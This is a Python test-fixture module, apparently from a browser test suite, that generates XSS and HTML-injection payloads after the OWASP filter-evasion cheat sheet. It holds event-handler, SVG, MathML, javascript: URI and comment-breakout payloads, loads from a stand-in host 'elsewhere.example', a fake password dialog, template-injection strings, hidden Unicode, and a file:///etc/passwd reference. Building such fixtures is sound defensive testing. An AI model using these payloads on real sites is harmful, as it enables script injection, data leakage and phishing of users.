"""Text that runs, loads, leads away, covers or breaks out where it is taken for markup.

The texts are our own, after the kinds that the OWASP cheat sheet on evading XSS filters names."""

from __future__ import annotations

from tests.browser.shelf import PAYLOADS

DO = "window.harmed=1"
AWAY = "https://elsewhere.example"

_RUNS = (
    f"<script>{DO}</script>",
    f"<ScRiPt>{DO}</sCrIpT>",
    f"<script src={AWAY}/x.js></script>",
    f"<script type=module>{DO}</script>",
    f"<<script>{DO}//<</script>",
    f"<img src=x onerror={DO}>",
    f"<img src=x:x onerror={DO} alt='a'>",
    f"<img/src=x/onerror={DO}>",
    f"<IMG SRC=x ONERROR={DO}>",
    f"<svg onload={DO}>",
    f"<svg><script>{DO}</script></svg>",
    f"<svg><animate onbegin={DO} attributeName=x dur=1s>",
    f"<svg><set onbegin={DO} attributeName=x>",
    f"<svg><a href='javascript:{DO}'><text y=9>x</text></a></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{DO}</script>'></iframe></foreignObject></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={DO}>#x'></use></svg>",
    f"<math><a xlink:href='javascript:{DO}'>x</a></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={DO}></style>",
    f"<iframe src='javascript:parent.{DO}'></iframe>",
    f"<iframe srcdoc='<img src=x onerror=parent.{DO}>'></iframe>",
    f"<iframe onload={DO}></iframe>",
    f"<body onload={DO}>",
    f"<input autofocus onfocus={DO}>",
    f"<select autofocus onfocus={DO}></select>",
    f"<textarea autofocus onfocus={DO}></textarea>",
    f"<details open ontoggle={DO}>x</details>",
    f"<video><source onerror={DO}></video>",
    f"<audio src=x onerror={DO}></audio>",
    f"<video poster=x onloadstart={DO} src=x></video>",
    f"<marquee onstart={DO}>x</marquee>",
    f"<div onpointerover={DO} style='position:fixed;inset:0'>x</div>",
    f"<p id=x tabindex=1 onfocus={DO}>x</p>",
    f"<object data='data:text/html,<script>parent.{DO}</script>'></object>",
    f"<embed src='data:text/html,<script>parent.{DO}</script>'>",
    f"<a href='javascript:{DO}' autofocus>x</a>",
    f"<a href='java&#10;script:{DO}'>x</a>",
    f"<a href='&#106;avascript:{DO}'>x</a>",
    f"<form action='javascript:{DO}'><input type=submit></form>",
    f"<button formaction='javascript:{DO}' form=composer>x</button>",
    f"<style onload={DO}></style>",
    f"<link rel=stylesheet href=x onerror={DO}>",
    f"<template shadowrootmode=open><img src=x onerror={DO}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={DO}>'></noscript>",
    f"<select><template><img src=x onerror={DO}></template></select>",
    f"<table><caption><img src=x onerror={DO}></caption></table>",
    f"<title><img src=x onerror={DO}></title>",
    f"<xmp><p title='</xmp><img src=x onerror={DO}>'>",
    f"<!--><img src=x onerror={DO}>-->",
    f"<!-- --!><img src=x onerror={DO}>-->",
    f"<![CDATA[><img src=x onerror={DO}>]]>",
)
_LEADS_AWAY = (
    f"<img src={AWAY}/leak.png>",
    f"<img srcset='{AWAY}/a.png 1x'>",
    f"<picture><source srcset={AWAY}/b.png><img></picture>",
    f"<link rel=stylesheet href={AWAY}/x.css>",
    f"<link rel=preload as=image href={AWAY}/p.png>",
    f"<link rel=prefetch href={AWAY}/p>",
    f"<style>@import '{AWAY}/x.css';</style>",
    f"<style>*{{background:url({AWAY}/bg.png)!important}}</style>",
    f"<div style='background:url({AWAY}/d.png)'>x</div>",
    f"<base href='{AWAY}/'>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<meta name=referrer content=unsafe-url><a ping={AWAY} href=/>x</a>",
    f"<iframe src={AWAY}></iframe>",
    f"<video src={AWAY}/v.mp4 autoplay></video>",
    f"<audio src={AWAY}/a.mp3 autoplay></audio>",
    f"<object data={AWAY}/o.svg></object>",
    f"<svg><image href={AWAY}/i.png></image></svg>",
    f"<svg><feImage href={AWAY}/f.png></feImage></svg>",
    f"<form action={AWAY}><button>kirim</button></form>",
    f"<table background={AWAY}/t.png><tr><td>x</td></tr></table>",
    f"<input type=image src={AWAY}/in.png>",
    f"<a href={AWAY} style='position:fixed;inset:0;opacity:0'>x</a>",
    "<style>*{display:none!important}</style>",
    "<plaintext>",
    "<textarea>",
    "<dialog open style='position:fixed;inset:0'>Masukkan kata sandi</dialog>",
)
_ELSEWHERE = (
    f"javascript:{DO}",
    f"[tautan](javascript:{DO})",
    f"![gambar]({AWAY}/leak.png)",
    f"[ref]: {AWAY}/x 'judul'",
    f"{{{{constructor.constructor('{DO}')()}}}}",
    f"${{{DO}}}",
    f"<%= {DO} %>",
    f"&lt;script&gt;{DO}&lt;/script&gt;",
    f"\\u003cscript\\u003e{DO}\\u003c/script\\u003e",
    f"data: x\n\nevent: done\ndata: {DO}".replace("\n", " "),
    f"%3Cscript%3E{DO}%3C/script%3E",
    "harga \u202e00001 murah\u202c sekali",
    "nama\u2066 yang \u2069 terbalik \u202d",
    "tak \U000e0041\U000e0042 terlihat",
    '=HYPERLINK("https://elsewhere.example","x")',
    "file:///etc/passwd",
    "//elsewhere.example/x",
)
_OUT_OF = ("\"'>", "</script>", "</textarea>", "</title>", "-->", "]]>", "`)};")

MARKUP = tuple(dict.fromkeys((*_RUNS, *_LEADS_AWAY)))
"""What builds elements where it is taken for markup."""


def payloads(least: int) -> list[str]:
    """At least so many different texts: all there are, then those that run after each way out of where they stand."""
    every = dict.fromkeys((*MARKUP, *_ELSEWHERE, *(" ".join(one.split()) for one in PAYLOADS)))
    for way_out in _OUT_OF:
        if len(every) >= least:
            break
        every |= dict.fromkeys(way_out + one for one in MARKUP)
    return list(every)
